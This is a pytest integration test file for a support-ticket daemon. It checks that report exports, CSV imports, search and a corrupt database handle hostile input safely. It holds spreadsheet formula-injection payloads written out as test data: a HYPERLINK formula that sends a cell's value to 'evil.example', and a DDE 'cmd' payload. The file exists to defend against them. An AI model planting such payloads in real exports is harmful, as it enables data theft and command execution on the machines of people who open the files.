"""The attack pass's input findings, each against the installed `ticketd` and a real database.

Reports a customer's text reaches, CSV input to `customers import`, `tickets search` text and a database file that
is not one: hostile input must come out as text or as a one-line usage error (exit 2), never as a formula, a
wildcard or a traceback.
"""

from __future__ import annotations

import csv
from email.headerregistry import Address
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path

import pytest
from openpyxl import load_workbook

from conftest import Desk, Site, decode

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&B2,"Click for your invoice")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def stranger_mail(sender: str, name: str, subject: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = Address(name, addr_spec=sender)  # quoted as it must be: the quotes in the formula are escaped
    msg["To"], msg["Subject"], msg["Message-ID"] = "support@acme.example", subject, make_msgid(domain="x.example")
    msg.set_content("Please look at this.")
    return msg.as_bytes()


def test_report_cells_and_csv_fields_never_start_a_formula(desk: Desk, tmp_path: Path) -> None:
    for n, text in enumerate(HOSTILE):
        desk.deliver(stranger_mail(f"eve{n}@evil.example", text, text))
    proc = desk.site.cli("report", "--xlsx", str(tmp_path / "r.xlsx"), "--csv", str(tmp_path))
    assert proc.returncode == 0, decode(proc)

    workbook = load_workbook(tmp_path / "r.xlsx")
    formulas = [(ws.title, c.coordinate, c.value) for ws in workbook for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    texts = {c.value: c for ws in workbook for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in HOSTILE:
        cell = texts[text]  # the subject, shown as written
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type)

    with (tmp_path / "tickets.csv").open(encoding="utf-8-sig", newline="") as fh:
        fields = [field for row in csv.reader(fh) for field in row]
    for text in HOSTILE:
        assert "'" + text in fields, text
    assert not [f for f in fields if f.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "=1", "+1", "-x", "@x"])
def test_csv_field_quotes_every_formula_start(text: str) -> None:
    """Tab- and CR-led texts cannot travel in a mail header, so this one function is checked on its own."""
    from ticketd.daemon.reports.xlsx import csv_field

    assert csv_field(text) == "'" + text
    assert csv_field(-1.5) == "-1.5" and csv_field("plain") == "plain"
    assert csv_field("-") == "-"  # the sheets' mark for "none" is no formula, and shows as written


# --- customers import -----------------------------------------------------------------------------------------

def customer_emails(site: Site) -> list[str]:
    from sqlmodel import Session, select

    from ticketd.storage.models import Customer

    with Session(site.engine) as session:
        return sorted(session.exec(select(Customer.email)))


def test_import_names_the_line_of_a_byte_that_is_not_utf8(site: Site) -> None:
    site.upgrade()
    latin1 = site.dir / "latin1.csv"
    latin1.write_bytes("email,name,company\nok@x.example,Ok,\nfrancois@x.example,Fran\u00e7ois,\n".encode("latin-1"))
    proc = site.cli("customers", "import", str(latin1))
    _, err = decode(proc)
    assert proc.returncode == 2, err
    assert err.startswith("ticketd: latin1.csv:3: not UTF-8") and "Traceback" not in err, err
    assert customer_emails(site) == []


def test_import_refuses_an_address_on_two_lines(site: Site) -> None:
    site.upgrade()
    twice = site.dir / "twice.csv"
    twice.write_text("email,name,company\nA@x.example,First,\nb@x.example,B,\na@x.example,Second,\n")
    proc = site.cli("customers", "import", str(twice))
    _, err = decode(proc)
    assert proc.returncode == 2 and "twice.csv:4: a@x.example is on line 2 already" in err, err
    assert customer_emails(site) == []  # all or nothing


def test_import_names_a_line_the_csv_reader_refuses(site: Site) -> None:
    site.upgrade()
    huge = site.dir / "huge.csv"  # a field over the csv module's limit (128 KiB) raises csv.Error
    huge.write_text("email,name,company\nok@x.example,Ok,\nx@x.example," + "X" * 200_000 + ",\n")
    proc = site.cli("customers", "import", str(huge))
    _, err = decode(proc)
    assert proc.returncode == 2 and "huge.csv:3: not a CSV line" in err and "Traceback" not in err, err
    assert customer_emails(site) == []


# --- tickets search ---------------------------------------------------------------------------------------------

def search(desk: Desk, text: str) -> list[int]:
    import json

    proc = desk.site.cli("tickets", "search", text, "--json")
    out, err = decode(proc)
    assert proc.returncode == 0, err
    return [t["number"] for t in json.loads(out)]


def test_search_takes_like_wildcards_literally_and_bounds_its_length(desk: Desk) -> None:
    desk.deliver(stranger_mail("jane@example.org", "Jane", "Discount of 50% missing"))
    desk.deliver(stranger_mail("joe@example.org", "Joe", "Printer on floor 3 is jammed"))
    desk.deliver(stranger_mail("under_score@example.org", "Ann", "Login fails"))
    assert search(desk, "%") == [1]
    assert search(desk, "50%") == [1]
    assert search(desk, "_") == [3]
    assert search(desk, "under_s") == [3]
    assert search(desk, "\\") == []
    assert search(desk, "1" * 40) == []  # a long number is text, not an integer the database overflows on
    assert search(desk, "printer") == [2]

    proc = desk.site.cli("tickets", "search", "x" * 50_000)
    _, err = decode(proc)
    assert proc.returncode == 2 and err == "ticketd: search text is 50000 characters long; at most 200\n", err


# --- a database file that is not one --------------------------------------------------------------------------

def test_a_file_that_is_not_a_database_is_named_in_every_command(site: Site, backend: str, tmp_path: Path) -> None:
    if backend != "sqlite":
        pytest.skip("a database file is SQLite's; the PostgreSQL run has nothing to add")
    broken = tmp_path / "broken.db"
    broken.write_bytes(b"this is a shopping list, not a database\n" * 200)
    site.sections["database"] = {"url": f"sqlite:///{broken}"}
    for args in (("tickets", "list"), ("run", "--once"), ("db", "upgrade"), ("customers", "list"),
                 ("tickets", "search", "x"), ("report", "--xlsx", str(tmp_path / "r.xlsx")), ("status",)):
        proc = site.cli(*args)
        _, err = decode(proc)
        assert proc.returncode == 2, (args, err)
        assert err == f"ticketd: database {broken}: file is not a database\n", (args, err)
    check = site.cli("check")
    out, err = decode(check)
    assert check.returncode == 2 and "Traceback" not in out + err, (out, err)
    assert f"FAIL database: not a database ticketd can open: {broken}: file is not a database" in out, out
    # An MTA is told to keep the mail (75), not to bounce it, and still learns why.
    deliver = site.cli("deliver", input=stranger_mail("jane@example.org", "Jane", "Hello"))
    _, err = decode(deliver)
    assert deliver.returncode == 75 and err == f"ticketd: cannot store the message: database {broken}: " \
                                               "file is not a database\n", err
